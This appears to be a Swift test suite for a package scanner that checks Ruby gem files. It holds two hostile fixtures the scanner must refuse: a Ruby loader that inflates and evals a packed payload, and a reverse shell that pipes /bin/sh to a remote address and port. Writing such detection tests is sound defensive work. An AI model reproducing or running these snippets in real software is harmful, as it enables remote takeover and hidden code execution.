import Testing

@testable import Provenance

/// Files of gems, which run as soon as they are required.
@Suite("A gem")
struct GemTests {
    private func inspect(_ text: String) -> PackageInspection {
        let entry = (name: "lib/x.rb", type: UInt8(0x30), content: text)
        return InspectionTests.inspector.inspect(ArchiveTests.tar([entry]), name: "x-1.0.0.gem")
    }

    @Test(
        "is refused that runs what a function of it unpacks, or hands its shell to an address",
        arguments: [
            (
                "EXEC-1",
                """
                require 'zlib'
                module Forms
                  def self.load(data = PACKED)
                    Zlib::Inflate.inflate(data.unpack1('m0'))
                  end
                end
                TOPLEVEL_BINDING.eval(Forms.load)
                """
            ),
            (
                "SHELL-1",
                """
                require 'socket'
                module Attach
                  def self.call(host = [198, 51, 100, 9].join('.'))
                    fork do
                      s = TCPSocket.new(host, 4443)
                      [$stdin, $stdout].each { |io| io.reopen(s) }
                      exec '/bin/sh', '-i'
                    end
                  end
                end
                Attach.call if ENV.key?('RAILS_ENV')
                """
            ),
        ]
    )
    func harms(rule: String, text: String) {
        let found = inspect(text)
        #expect(found.marks.contains { $0.rule == rule && $0.points >= 80 }, "\(found.marks)")
        #expect(found.answer == .refuse)
    }

    @Test(
        "is let in that unpacks tables, makes methods, or speaks to a server of its user's",
        arguments: [
            """
            MAGIC = [0x89, 0x50].pack('C*')
            module Forms
              def self.read(data)
                Zlib::Inflate.inflate(data)
              end
              %w[a b].each { |name| class_eval("def #{name}; 1; end") }
            end
            """,
            """
            require 'socket'
            class Client
              def initialize(host, port) = @socket = TCPSocket.new(host, port)
              def ask(line) = @socket.puts(line)
            end
            """,
        ]
    )
    func honest(text: String) {
        let found = inspect(text)
        #expect(found.answer == .pass, "\(found.marks)")
    }
}
